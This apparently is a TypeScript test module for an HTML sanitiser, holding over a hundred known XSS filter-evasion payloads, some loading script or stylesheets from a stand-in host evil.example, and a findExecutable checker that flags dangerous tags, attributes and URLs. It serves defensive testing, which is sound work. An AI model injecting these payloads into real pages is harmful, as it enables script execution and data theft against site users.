// Known XSS payloads (OWASP filter-evasion cheat sheet, mXSS research by Heiderich et al., the
// DOMPurify test suite) and a check that finds anything executable in sanitised markup. Used by the
// sanitiser's tests here and by later checks on every place that renders server HTML.

export const xssPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/ok.png" onload="alert(1)" ONERROR="alert(2)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/.//evil.example/">x</a>',
  '<svg onload=alert(1)><circle r=5></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<style><img src=x onerror=alert(1)></style>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p><!--</p><img src=x onerror=alert(1)>--></p>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<span onmouseover=alert(1)>x</span>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_self">x</a>',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // Script tags, more spellings.
  '<script/src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script>alert(1)</script',
  '"><script>alert(1)</script>',
  // Event handlers on kept and unwrapped elements, odd separators and case.
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<div/onclick=alert(1)>x</div>',
  '<p onpointerenter=alert(1)>x</p>',
  '<a href="/m/home" onfocus=alert(1) autofocus>x</a>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onpageshow=alert(1)>',
  '<img src=x onerror=alert(1)//',
  // javascript: links, more obfuscations.
  '<a href=javascript:alert(1)>x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javascript&#x3A;alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="javascript://%0Aalert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="javascript:alert(1)"><img src="/ok.png"></a>',
  '<img src="javascript:alert(1)">',
  '<img src="/ok.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<input type="image" src="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video poster="javascript:alert(1)"></video>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="https://ok.example/" ping="https://evil.example/track">x</a>',
  // SVG.
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg/onload=alert(1)>',
  // srcdoc and frames.
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<div srcdoc="<script>alert(1)</script>">x</div>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object type="text/x-scriptlet" data="//evil.example/x.sct"></object>',
  '<embed code="//evil.example/x.swf" allowscriptaccess="always">',
  // CSS: expression(), url(javascript:), behavior, -moz-binding, @import, in style tags and attributes.
  '<div style="xss:expr/**/ession(alert(1))">x</div>',
  '<div style="width:exp\\ression(alert(1))">x</div>',
  '<div style="background-image:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="background:url(&#1;javascript:alert(1))">x</div>',
  '<div style="-moz-binding:url(//evil.example/xss.xml#xss)">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="@import \'javascript:alert(1)\';">x</div>',
  '<img src="/ok.png" style="x:expression(alert(1))">',
  '<span style="color:red;}</style><script>alert(1)</script>">x</span>',
  '<style>@import \'//evil.example/x.css\';</style>',
  '<style>@im\\port\'\\ja\\vasc\\ript:alert(1)\';</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>li{list-style-image:url("javascript:alert(1)")}</style>',
  '<style>*{-moz-binding:url(//evil.example/x.xml#x)}</style>',
  '<style>p{behavior:url(x.htc)}</style>',
  '<style>a{width:expression(alert(1))}</style>',
  '<style>/*</style><img src=x onerror=alert(1)>*/</style>',
  '<svg><style>@import url(javascript:alert(1));</style></svg>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<link rel="import" href="//evil.example/x.html">',
  // Parser tricks.
  '<div><![CDATA[<img src=x onerror=alert(1)>]]></div>',
  '<a href="/ok" title="</a><img src=x onerror=alert(1)>">x</a>',
];

/** Tags that run code, load documents, or change how the page is parsed or navigated. */
const ACTIVE_TAGS = new Set(
  'script iframe frame frameset object embed applet portal svg math style base meta link form isindex template noscript'.split(' '),
);

/** Attributes that run code or load something whatever their value. */
const ACTIVE_ATTRS = /^on|^(style|srcdoc|srcset|formaction|action|xlink:href|ping|dynsrc|lowsrc)$/;

/** Attributes that hold an address. */
const URL_ATTRS = new Set('href src data background poster codebase cite'.split(' '));

const isBadUrl = (v: string) => {
  const s = v.replace(/[\u0000-\u0020]/g, '').toLowerCase();
  return /^(javascript|vbscript|data):/.test(s) || /^[/\\]{2}/.test(s);
};

/** Everything in `html` (markup, or a rendered DOM subtree) that could run, load a document or leak
 *  to another host: [] when safe. Markup is parsed again, so anything that mutates on re-parse
 *  (mXSS) shows up. An external link must also be cut off from this page (rel noopener). */
export function findExecutable(html: string | ParentNode): string[] {
  const root = typeof html === 'string' ? new DOMParser().parseFromString(html, 'text/html') : html;
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.localName;
    if (ACTIVE_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const name of el.getAttributeNames()) {
      const value = el.getAttribute(name) ?? '';
      if (ACTIVE_ATTRS.test(name)) found.push(`${tag}[${name}]`);
      if (URL_ATTRS.has(name) && isBadUrl(value)) found.push(`${tag}[${name}=${value}]`);
    }
    if (tag === 'a' && /^\s*https?:/i.test(el.getAttribute('href') ?? '') && !/\bnoopener\b/.test(el.getAttribute('rel') ?? '')) {
      found.push(`a[href=${el.getAttribute('href')}] without rel=noopener`);
    }
  }
  return found;
}
